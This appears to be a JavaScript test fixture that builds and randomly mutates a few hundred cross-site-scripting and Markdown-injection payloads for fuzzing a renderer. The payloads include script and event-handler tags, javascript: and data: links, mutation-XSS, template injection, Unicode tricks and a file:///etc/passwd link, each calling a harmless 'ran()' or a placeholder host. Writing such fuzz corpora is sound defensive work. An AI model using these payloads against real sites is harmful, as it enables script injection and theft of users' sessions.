// Texts that try to become markup, addresses or scripts, and variations of them. Each calls `ran()` or asks another server
// if it succeeds. Modelled on the OWASP and PortSwigger cheat sheets, and on past faults of Markdown programs.

import { dice } from "./dice.mjs";

const ELSEWHERE = "//elsewhere.invalid/x";

const MARKUP = [
  `<script>ran()</script>`,
  `"><script>ran()</script>`,
  `'><script src=${ELSEWHERE}></script>`,
  `</textarea><script>ran()</script>`,
  `</title><script>ran()</script>`,
  `</script><script>ran()</script>`,
  `<img src=x onerror=ran()>`,
  `"><img src=x onerror=ran()>`,
  `<img src=${ELSEWHERE}>`,
  `<img srcset=${ELSEWHERE}>`,
  `<svg onload=ran()>`,
  `<svg><script href=data:,ran() /></svg>`,
  `<svg><animate onbegin=ran() attributeName=x dur=1s>`,
  `<svg><style>@import "${ELSEWHERE}"</style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran()&gt;">`,
  `<math href="javascript:ran()">x</math>`,
  `<iframe srcdoc="<script>parent.ran()</script>"></iframe>`,
  `<iframe src="javascript:parent.ran()"></iframe>`,
  `<object data="javascript:ran()"></object>`,
  `<embed src="javascript:ran()">`,
  `<details open ontoggle=ran()>x</details>`,
  `<video><source onerror=ran()></video>`,
  `<body onload=ran()>`,
  `<input autofocus onfocus=ran()>`,
  `<select autofocus onfocus=ran()>`,
  `<marquee onstart=ran()>x</marquee>`,
  `<base href="${ELSEWHERE}/">`,
  `<link rel=stylesheet href=${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="javascript:ran()"><button>x</button></form>`,
  `<button form=composer formaction="javascript:ran()">x</button>`,
  `<style>body{background:url(${ELSEWHERE})}</style>`,
  `<p style="background:url(${ELSEWHERE})">x`,
  `<noscript><p title="</noscript><img src=x onerror=ran()>">`,
  `<template><script>ran()</script></template>`,
  `<x onclick=ran() tabindex=1 autofocus onfocus=ran()>x</x>`,
  `<a href="javascript:ran()">x</a>`,
  `<!--><img src=x onerror=ran()>-->`,
  `<![CDATA[><img src=x onerror=ran()>]]>`,
  `<?xml ><img src=x onerror=ran()>?>`,
  `&lt;script&gt;ran()&lt;/script&gt;`,
  `&#60;img src=x onerror=ran()&#62;`,
  `" autofocus onfocus=ran() x="`,
  `' onmouseover='ran()`,
  `" style="background:url(${ELSEWHERE})" x="`,
  "` onfocus=ran() autofocus `",
  "${ran()}",
  "{{constructor.constructor('ran()')()}}",
  `<a id=composer><a id=composer name=body>`,
  `<form id=history><input name=children>`,
];

const MARKDOWN = [
  `[x](javascript:ran())`,
  `[x](JaVaScRiPt:ran())`,
  `[x](java\tscript:ran())`,
  `[x](<java\nscript:ran()>)`,
  `[x](javascript&colon;ran())`,
  `[x](&#106;avascript:ran())`,
  `[x](\\javascript:ran())`,
  `[x]( javascript:ran())`,
  `[x](\u0001javascript:ran())`,
  `[x](data:text/html,<script>opener.ran()</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==)`,
  `[x](vbscript:ran())`,
  `[x](blob:null/ran)`,
  `[x](file:///etc/passwd)`,
  `[x](https://a.invalid" onmouseover="ran())`,
  `[x](https://a.invalid "title" onmouseover=ran())`,
  `[x](https://a.invalid 'x" onmouseover="ran()')`,
  `![x](${ELSEWHERE})`,
  `![x" onerror="ran()](x)`,
  `![x](javascript:ran())`,
  `<javascript:ran()>`,
  `<https://a.invalid/"onmouseover="ran()>`,
  `https://a.invalid/"onmouseover="ran()`,
  `https://a.invalid/'><img src=x onerror=ran()>`,
  `[x]: javascript:ran()\n\n[x]`,
  `[![x](${ELSEWHERE})](javascript:ran())`,
  "```html\"onmouseover=\"ran()\n<script>ran()</script>\n```",
  "`<img src=x onerror=ran()>`",
  "    <script>ran()</script>",
  `> <img src=x onerror=ran()>`,
  `1. <svg onload=ran()>`,
  `**<img src=x onerror=ran()>**`,
  `[<img src=x onerror=ran()>](https://a.invalid)`,
  `@ann"onmouseover="ran()`,
  `:"><img src=x onerror=ran()>:`,
  `[a](<javascript:ran()>) [b](javascript:ran%28%29)`,
  `\\<img src=x onerror=ran()>`,
  `<<script>ran()//<</script>`,
];

const UNICODE = [
  `\uff1cscript\uff1eran()\uff1c/script\uff1e`,
  `\u202e>tpircs/<)(nar>tpircs<`,
  `<\u0000script>ran()</script>`,
  `<scr\u0131pt>ran()</scr\u0131pt>`,
  `<img\u00a0src=x\u2028onerror=ran()>`,
  `\u2028<script>ran()</script>\u2029`,
  `[x](javascript\uff1aran())`,
  `[x](\u200bjavascript:ran())`,
  `ran\u0060\u0060<svg/onload=ran()>`,
  `<im\u017f src=x onerror=ran()>`,
  `\ud83d<img src=x onerror=ran()>`,
  `<a\u0301 onfocus=ran() autofocus>`,
];

export const INJECTIONS = [...MARKUP, ...MARKDOWN, ...UNICODE];

const BETWEEN = ["\t", "\n", " ", "/", "\u0001", "\u00a0", "\u200b", "\u2028", "&#0;", "\\", "\"", "'", "`", "<", ">", "-->", "]]>", "&Tab;", "&NewLine;"];
const AROUND = [
  (text) => `**${text}**`,
  (text) => `[${text}](https://a.invalid)`,
  (text) => `[a](${text})`,
  (text) => `![${text}](x)`,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `\`${text}\``,
  (text) => `<${text}>`,
  (text) => `https://a.invalid/${text}`,
  (text) => `"${text}`,
  (text) => `'>${text}`,
  (text) => `<b ${text}`,
  (text) => `&lt;${text}`,
  (text) => `~~~\n${text}\n~~~`,
];

/** `count` variations: letters of another case, characters in between, two texts in one, Markdown around it. */
export function mutations(count, seed) {
  const roll = dice(seed);
  const oneOf = (things) => things[Math.floor(roll() * things.length)];
  const insert = (text, what) => {
    const at = Math.floor(roll() * (text.length + 1));
    return text.slice(0, at) + what + text.slice(at);
  };
  const CHANGES = [
    (text) => [...text].map((c) => (roll() < 0.5 ? c.toUpperCase() : c)).join(""),
    (text) => insert(text, oneOf(BETWEEN)),
    (text) => insert(text, oneOf(INJECTIONS)),
    (text) => oneOf(AROUND)(text),
    (text) => [...text].map((c) => (roll() < 0.2 ? `&#${c.codePointAt(0)};` : c)).join(""),
    (text) => [...text].map((c) => (roll() < 0.1 ? encodeURIComponent(c.isWellFormed() ? c : "x") : c)).join(""),
    (text) => text.slice(Math.floor(roll() * 4)),
    (text) => text.slice(0, text.length - Math.floor(roll() * 4)),
  ];
  return Array.from({ length: count }, () => {
    let text = oneOf(INJECTIONS);
    for (let n = Math.floor(roll() * 4); n >= 0; n--) text = oneOf(CHANGES)(text);
    return text.slice(0, 600);
  });
}
